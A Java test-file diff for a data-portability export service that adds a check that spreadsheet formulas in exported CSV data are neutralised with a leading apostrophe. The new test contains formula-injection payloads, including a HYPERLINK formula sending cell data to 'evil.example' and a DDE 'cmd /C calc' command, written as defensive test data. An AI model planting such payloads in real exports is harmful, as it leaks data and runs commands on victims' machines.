@@ -19,6 +19,7 @@ import org.dsrflow.request.Channel;
 import org.dsrflow.testsupport.DepartmentWork;
 import org.dsrflow.testsupport.Http;
 import org.dsrflow.testsupport.Jobs;
+import org.dsrflow.testsupport.Links;
 import org.dsrflow.testsupport.Mails;
 import org.dsrflow.testsupport.Requests;
 import org.dsrflow.testsupport.SmtpIntegrationTest;
@@ -72,9 +73,9 @@ class PortabilityTest {
 
         String answer = Mails.everything(Mails.last(greenMail));
         assertThat(answer).contains(reference, contact, communication, why, "format=json", "format=csv");
-        String csvPath = Mails.linkPath(Mails.text(Mails.last(greenMail)), "/download/file\\?token=[A-Za-z0-9_-]+&format=csv");
+        String csvPath = Mails.linkPath(Mails.text(Mails.last(greenMail)), "/download\\?token=[A-Za-z0-9_-]+&format=csv");
         Http http = new Http(port);
-        Http.Response csv = http.get(csvPath);
+        Http.Response csv = Links.download(http, csvPath, "csv");
         assertThat(csv.status()).isEqualTo(200);
         assertThat(csv.header("Content-Type")).startsWith("text/csv");
         List<List<String>> rows = parseCsv(csv.body());
@@ -83,11 +84,41 @@ class PortabilityTest {
             assertThat(row.get(0)).isEqualTo("contact");
             assertThat(row.get(2)).startsWith("name,email\n\"Lars \"\"Lasse\"\" Holm\",lars@example.com (");
         });
-        JsonNode json = new ObjectMapper().readTree(http.get(csvPath.replace("format=csv", "format=json")).body());
+        JsonNode json = new ObjectMapper().readTree(Links.download(http, csvPath, "json").body());
         assertThat(json.get("type").asText()).isEqualTo("PORTABILITY");
         assertThat(json.get("categories")).hasSize(1);
         assertThat(json.get("categories").get(0).get("id").asText()).isEqualTo("contact");
         assertThat(json.get("notPortable").get(0).asText()).isEqualTo(communication);
+    }
+
+    @org.junit.jupiter.api.Test
+    void aSpreadsheetFormulaInTheDataArrivesNeutralisedInTheCsv() throws Exception {
+        DepartmentWork work = new DepartmentWork(tasks, management);
+        String reference = Requests.confirmed(intake, management, process, new NewRequest("PORTABILITY", "Mallory Formula",
+                "mallory@example.com", "SE", "en", List.of("contact"), null));
+        List<String> cells = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+1+cmd|' /C calc'!A0",
+                "-2+3", "@SUM(1+1)");
+        List<Task> departments = work.tasks(reference);
+        for (int i = 0; i < departments.size(); i++) {
+            work.complete(departments.get(i), Map.of("found", "yes", "contact",
+                    Map.of("data", cells.get(i % cells.size()), "source", "=cmd")));
+        }
+        work.approve(reference);
+
+        List<List<String>> rows = parseCsv(csv(Mails.text(Mails.lastAbout(greenMail, reference))));
+        List<String> data = rows.subList(1, rows.size()).stream().map(row -> row.get(2)).toList();
+        assertThat(data).hasSize(departments.size()).allSatisfy(cell -> assertThat(cell).startsWith("'"));
+        assertThat(data).contains("'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "'+1+cmd|' /C calc'!A0",
+                "'-2+3", "'@SUM(1+1)");
+        assertThat(rows.subList(1, rows.size())).allSatisfy(row -> assertThat(row.get(3)).isEqualTo("'=cmd"));
+    }
+
+    /** The CSV behind the answer email's download link, as the person downloads it. */
+    private String csv(String answer) {
+        String csvPath = Mails.linkPath(answer, "/download\\?token=[A-Za-z0-9_-]+&format=csv");
+        Http.Response csv = Links.download(new Http(port), csvPath, "csv");
+        assertThat(csv.status()).isEqualTo(200);
+        return csv.body();
     }
 
     /** RFC 4180: quoted fields, doubled quotes, CRLF between records, line breaks inside quotes. */
